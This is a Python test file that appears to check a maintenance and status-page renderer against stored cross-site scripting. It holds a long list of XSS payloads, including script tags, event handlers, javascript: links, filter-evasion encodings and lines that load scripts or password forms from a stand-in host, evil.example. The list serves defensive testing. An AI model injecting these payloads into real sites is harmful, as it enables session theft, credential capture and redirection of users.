"""Stored cross-site scripting: whatever is typed into a text field is shown, and never becomes markup."""

import re
from dataclasses import replace

import pytest

from gateway.domain.component import ComponentGroup
from gateway.render.environment import page_style, status_style
from gateway.render.look import Branding
from gateway.render.pages import gated_page, history_html, message_page, status_html, window_html
from gateway.render.wording import Badge, Tone
from tests.render.reading import Page
from tests.render.samples import EN, HOUR, SHOP, START, component, moment, update, window

BADGE = Badge("Failed", "cross", Tone.BAD)

PAYLOADS = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{ 7 * 191 }}{% raw %}",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example/ "\\"onmouseover=alert(1)")',
    "![x](https://evil.example/pixel.png)",
    "![x](x){onerror=alert(1)}",
    "```<script>\nalert(1)\n```",
    "`<b onclick=alert(1)>`",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext></style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
    "<details open ontoggle=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img src="x`onerror=alert(1)`">',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>",
    "<a href=java&#10;script:alert(1)>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='--><script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}`+alert(1)+`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)\u2029",
    "\ufeff<script>alert(1)</script>",
    "[x](<javascript:alert(1)>)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<https://ok.example/onmouseover=alert(1)//>",
]

_ALLOWED_SCHEMES = ("https://", "http://", "mailto:", "/_maintenance/", "#main")
_FORBIDDEN = {"iframe", "object", "embed", "img", "form", "input", "base", "math", "details", "frame", "b"}


def assert_harmless(html: bytes) -> None:
    page = Page(html)
    tags = {tag for tag, _ in page.elements}
    assert not tags & _FORBIDDEN
    assert {*re.findall(r"<style>(.*?)</style>", html.decode(), re.DOTALL)} <= {page_style(), status_style()}
    assert len(page.of("style")) <= 2
    assert all(script.get("src", "").startswith("/_maintenance/assets/page.js?v=") for script in page.of("script"))
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "srcdoc"}], (
            tag,
            attributes,
        )
    for link in page.of("a"):
        assert link["href"].startswith(_ALLOWED_SCHEMES), link
    for meta in page.of("meta"):
        assert meta.get("http-equiv", "refresh") == "refresh"
        assert "url" not in meta.get("content", "")
    assert "1337" not in page.text  # a template inside a text would have computed it


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_field_becomes_markup(payload: str) -> None:
    """Each payload through each field, on each page: only elements of ours and harmless links come out."""
    posts = (update("in_progress", payload, START),)
    active = window(1, title=payload, description=payload, updates=posts)
    over = replace(active, id=window(2).id, starts_at=START - 3 * HOUR, ended_at=START - HOUR)
    coming = replace(active, id=window(3).id, starts_at=START + 9 * HOUR)
    part = component("api", name=payload, description=payload, group_id=SHOP.id)
    group = ComponentGroup(id=SHOP.id, name=payload)
    seen = moment(active, over, coming, components=(part,), groups=(group,))
    branding = Branding(product=payload, support_email="help@acme.example", prefix="/_maintenance")
    assert_harmless(gated_page(seen, branding, EN))
    assert_harmless(status_html(seen, branding, EN))
    assert_harmless(window_html(over, seen, branding, EN))
    assert_harmless(history_html(seen, branding, EN))
    assert_harmless(message_page(payload, payload, branding, EN, badge=BADGE, request_id=payload))


@pytest.mark.parametrize("payload", ["<b>bold</b>", "5 < 6 & 7 > 2", 'Tom\'s "quoted" text', "Ünïcödé 日本語 عربى 🙂"])
def test_what_was_typed_can_be_read(payload: str) -> None:
    """Escaping shows the text as it was typed; nothing is cut out."""
    text = Page(gated_page(moment(window(title=payload, description=payload)), BRANDING, EN)).text
    assert text.count(payload) == 2


BRANDING = Branding(product="Acme Shop", support_email="", prefix="/_maintenance")
